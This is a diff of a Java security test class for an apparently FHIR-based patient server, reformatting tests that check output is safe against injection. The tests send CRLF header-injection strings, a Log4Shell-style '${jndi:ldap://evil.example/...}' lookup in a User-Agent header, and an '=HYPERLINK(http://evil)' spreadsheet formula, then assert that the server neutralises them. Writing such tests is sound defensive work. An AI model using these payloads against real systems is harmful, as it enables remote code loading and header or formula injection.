@@ -27,7 +27,9 @@ class OutputAttacksIT {
         String answer = raw("GET /fhir/Patient/1%0d%0aX-Evil:%201 HTTP/1.1\nHost: a\nX-Request-Id: a%0d%0aX-Evil: 1\n"
                 + "Connection: close\n\n");
         assertThat(answer).doesNotContain("\r\nX-Evil");
-        Reply reply = Call.get("/Patient?_count=1").header("X-Request-Id", "a b\t{}<>").send();
+        Reply reply = Call.get("/Patient?_count=1")
+                .header("X-Request-Id", "a b\t{}<>")
+                .send();
         assertThat(reply.header("X-Request-Id")).matches("[A-Za-z0-9._-]{1,64}");
         Reply created = harmless(Call.call("POST", "/Patient?x=%0d%0aLocation:%20http://evil")
                 .content(Attack.JSON, "{\"resourceType\":\"Patient\"}")
@@ -42,20 +44,27 @@ class OutputAttacksIT {
         post("Patient", "{'resourceType':'Patient','" + MARK + "':'" + MARK + "'}");
         get("/Patient?" + MARK + "%0d%0aforged=" + MARK);
         get("/" + MARK + "%0d%0aforged");
-        harmless(Call.get("/Patient?_count=1").header("User-Agent", "${jndi:ldap://evil.example/" + MARK + "}").send());
-        harmless(Call.get("/Patient?_count=1").header("X-Request-Id", MARK + " forged").send());
+        harmless(Call.get("/Patient?_count=1")
+                .header("User-Agent", "${jndi:ldap://evil.example/" + MARK + "}")
+                .send());
+        harmless(Call.get("/Patient?_count=1")
+                .header("X-Request-Id", MARK + " forged")
+                .send());
         assertThat(output.getAll()).doesNotContain(MARK + " forged", "${jndi", "\u001b[31m", "\nforged");
     }
 
     @Test
     void c12_formulas_stay_data_in_json() {
-        String id = post("Patient", "{'resourceType':'Patient','name':[{'family':'=HYPERLINK(\\u0022http://evil\\u0022)'}]}")
+        String id = post(
+                        "Patient",
+                        "{'resourceType':'Patient','name':[{'family':'=HYPERLINK(\\u0022http://evil\\u0022)'}]}")
                 .expect(201)
                 .id();
         Reply reply = get("/Patient/" + id);
         assertThat(reply.header("Content-Type")).startsWith("application/fhir+json");
         assertThat(reply.header("X-Content-Type-Options")).isEqualTo("nosniff");
-        assertThat(Call.get("/Patient/" + id).accept("text/csv").send().status()).isEqualTo(406);
+        assertThat(Call.get("/Patient/" + id).accept("text/csv").send().status())
+                .isEqualTo(406);
     }
 
     @ParameterizedTest
@@ -89,7 +98,10 @@ class OutputAttacksIT {
         String answer = raw("OPTIONS /fhir/Patient HTTP/1.1\nHost: a\nOrigin: http://localhost:3000"
                 + "\nAccess-Control-Request-Method: GET\nConnection: close\n\n");
         assertThat(answer)
-                .contains("Access-Control-Allow-Origin: http://localhost:3000", "Access-Control-Max-Age: 600", "Vary: Origin")
+                .contains(
+                        "Access-Control-Allow-Origin: http://localhost:3000",
+                        "Access-Control-Max-Age: 600",
+                        "Vary: Origin")
                 .doesNotContain("Access-Control-Allow-Credentials", "Access-Control-Allow-Origin: *");
     }
 }
